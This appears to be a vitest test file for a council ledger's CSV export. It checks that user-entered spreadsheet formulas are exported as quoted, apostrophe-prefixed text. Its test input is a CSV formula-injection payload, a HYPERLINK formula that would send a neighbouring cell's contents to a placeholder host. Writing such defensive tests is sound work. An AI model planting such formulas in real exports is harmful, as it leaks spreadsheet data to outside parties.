// A spreadsheet formula typed into the ledger by one organisation comes out of a CSV export as
// text, not as a formula: through the real API, the real projection and the read-model route.

import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { action, strategy } from './bodies.js';
import { ledgerForThisFile } from './harness.js';
import { create } from './requests.js';

const ledger = await ledgerForThisFile();
const officer = await ledger.tokenFor('officer', 'halton-council');
const panel = await ledger.tokenFor('scrutiny');

describe('CSV export of text a spreadsheet would run', () => {
  it('exports a tracker row whose what is =HYPERLINK(...) as text: the cell starts with an apostrophe, every field quoted', async () => {
    const planId = await create(ledger, officer, '/v1/plans', strategy);
    const what = '=HYPERLINK("http://x/?"&B2,"open")';
    const planned = await ledger.call('POST', '/v1/actions', { token: officer, body: { ...action(planId), what, lead: '@lead+ team' } });
    expect(planned.status, JSON.stringify(planned.body)).toBe(201);

    const response = await fetch(`${ledger.url}/v1/action-plans/tracker?format=csv&after=${planned.body.position}`, { headers: { authorization: `Bearer ${panel}` } });
    expect(response.status).toBe(200);
    const csv = await response.text();
    // The raw bytes: quoted, quotes doubled, the apostrophe first inside the quotes.
    expect(csv).toContain(`"'=HYPERLINK(""http://x/?""&B2,""open"")"`);
    for (const line of csv.trim().split('\n')) expect(line).toMatch(/^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$/);
    // And what a spreadsheet's CSV reader makes of the row: text, the formula inert.
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const row = rows.find((r) => r.actionId === planned.body.createdId);
    expect(row).toMatchObject({ what: `'${what}`, lead: "'@lead+ team" });
    for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
